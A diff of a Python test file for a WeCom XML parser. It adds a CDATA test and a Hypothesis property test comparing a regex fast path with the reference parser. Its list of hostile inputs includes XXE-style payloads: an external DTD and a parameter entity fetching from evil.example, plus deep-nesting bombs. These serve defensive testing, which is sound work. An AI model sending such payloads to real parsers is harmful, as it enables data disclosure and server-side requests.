@@ -3,11 +3,15 @@
 from __future__ import annotations
 
 import time
+from xml.etree.ElementTree import fromstring as c_fromstring
+from xml.sax.saxutils import escape as xml_escape
 
 import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
 
 from shared.wecom.errors import XmlError
-from shared.wecom.xml import parse_xml
+from shared.wecom.xml import _parse_flat, _tree_to_dict, parse_xml
 
 # Marks input that must never be echoed back in an error message.
 MARKER = "s3cr3t"
@@ -193,13 +197,21 @@ HOSTILE: list[tuple[str, bytes, str]] = [
     ),
     ("internal DTD", b"<!DOCTYPE xml [<!ELEMENT xml ANY>]><xml><s3cr3t/></xml>", "DTD"),
     ("external DTD", b'<!DOCTYPE xml SYSTEM "http://s3cr3t.example/x.dtd"><xml/>', "DTD"),
-    ("lower-case doctype", b"<!doctype xml><xml><s3cr3t/></xml>", "DTD"),
+    (
+        "lower-case doctype",
+        b"<!doctype xml><xml><s3cr3t/></xml>",
+        "malformed",
+    ),  # not XML at all: expat refuses it
     (
         "parameter entity",
         b'<!DOCTYPE xml [<!ENTITY % s3cr3t SYSTEM "http://evil.example/p.dtd"> %s3cr3t;]><xml/>',
         "DTD",
     ),
-    ("entity without doctype", b'<xml><!ENTITY s3cr3t "x"></xml>', "DTD"),
+    (
+        "entity without doctype",
+        b'<xml><!ENTITY s3cr3t "x"></xml>',
+        "malformed",
+    ),  # outside a DTD it is a syntax error
     ("undeclared entity reference", b"<xml><A>&s3cr3t;</A></xml>", "malformed"),
     ("too deep", _nested(8), "deeper than 8"),
     ("far too deep", _nested(9000), "deeper than 8"),
@@ -244,3 +256,56 @@ def test_malformed_xml_reports_the_position() -> None:
     """Line and column help an operator find the fault without seeing the body."""
     with pytest.raises(XmlError, match=r"line 2, column \d+"):
         parse_xml(b"<xml>\n<A></B></xml>")
+
+
+def test_markup_declaration_text_inside_cdata_content_is_kept() -> None:
+    """A member may type "<!DOCTYPE" in a message: inside CDATA it is text, not a DTD."""
+    body = "<xml><Content><![CDATA[see <!DOCTYPE html> and <!-- x -->]]></Content></xml>"
+    assert parse_xml(body.encode()) == {"Content": "see <!DOCTYPE html> and <!-- x -->"}
+
+
+_TAGS = st.sampled_from(["ToUserName", "MsgType", "Content", "A", "b_1", "x.y", "Z-z"])
+_TEXT = st.text(
+    alphabet=st.one_of(
+        st.sampled_from(list("\r\n\t ]>&<\x01\ufffe你")),
+        st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"),
+    ),
+    max_size=40,
+)
+
+
+@st.composite
+def _flat_documents(draw: st.DrawFn) -> str:
+    """Flat <xml> documents of the shapes WeCom sends, with hostile-looking content."""
+    children = []
+    for tag, text, as_cdata, pad in draw(
+        st.lists(st.tuples(_TAGS, _TEXT, st.booleans(), st.sampled_from(["", " ", "\n  "])))
+    ):
+        if as_cdata:
+            body = "]]]]><![CDATA[>".join(f"<![CDATA[{part}]]>" for part in text.split("]]>"))
+        else:
+            body = xml_escape(text)
+        children.append(f"{pad}<{tag}>{pad}{body}{pad}</{tag}>")
+    declaration = draw(st.sampled_from(["", '<?xml version="1.0" encoding="UTF-8"?>\n']))
+    return f"{declaration}<xml>{''.join(children)}\n</xml>"
+
+
+@given(_flat_documents())
+@example("<xml><A>a\r\nb</A><B><![CDATA[x\ry]]></B></xml>")
+@example("<xml><A>\x01</A></xml>")
+@settings(max_examples=300)
+def test_flat_fast_path_agrees_with_the_parser(document: str) -> None:
+    """The regex fast path yields exactly what the real parser yields, or steps aside."""
+    try:
+        reference = c_fromstring(document)  # noqa: S314 -- the reference implementation
+        expected: object = _tree_to_dict(reference, 8)
+    except Exception as exc:  # any parser refusal must also be ours
+        expected = type(exc)
+    fast = _parse_flat(document, 2000)
+    if fast is not None:
+        assert fast == expected
+    if isinstance(expected, dict):
+        assert parse_xml(document.encode()) == expected
+    else:
+        with pytest.raises(XmlError):
+            parse_xml(document.encode())
